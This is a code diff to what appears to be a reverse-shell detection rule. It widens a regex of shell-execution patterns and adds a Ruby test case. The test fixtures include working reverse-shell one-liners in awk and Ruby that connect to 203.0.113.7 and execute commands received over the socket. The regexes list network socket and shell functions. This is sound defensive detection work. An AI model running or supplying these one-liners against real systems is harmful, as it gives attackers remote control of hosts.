@@ -24,7 +24,7 @@ const socketCode =
   /socket|\/inet\/tcp|\/inet\/udp|fsockopen|tcpsocket|net\.connect|net\.socket|io::socket|stream_socket_client|pfsockopen|net\.dial|require\(['"]net['"]\)|luasocket|websocket/;
 
 const shellCode =
-  /dup2|subprocess|pty\.spawn|os\.system|popen|proc_open|shell_exec|passthru|\/bin\/(?:ba|da|z|a|k)?sh|exec\s*[({]|child_process|os\.exec|spawn\(|while.{0,80}getline|open\s*stdin|stdin->|open\(stdin/;
+  /dup2|subprocess|pty\.spawn|os\.system|popen|proc_open|shell_exec|passthru|\/bin\/(?:ba|da|z|a|k)?sh|exec\s*[({]|child_process|os\.exec|spawn\(|while.{0,80}getline|while.{0,80}gets.{0,80}`|open\s*stdin|stdin->|open\(stdin/;
 
 const codePrograms = new Set([
   ...interpreters,
@@ -129,6 +129,7 @@ export const reverseShellCode: Indicator = {
       ran(
         'awk BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while(42) { do{ s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") }}',
       ),
+      ran("ruby -rsocket -e c=TCPSocket.new('203.0.113.7',4444);while l=c.gets;c.print `#{l}`;end"),
       ran(
         'ruby -rsocket -e exit if fork;c=TCPSocket.new("203.0.113.7","443");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
       ),
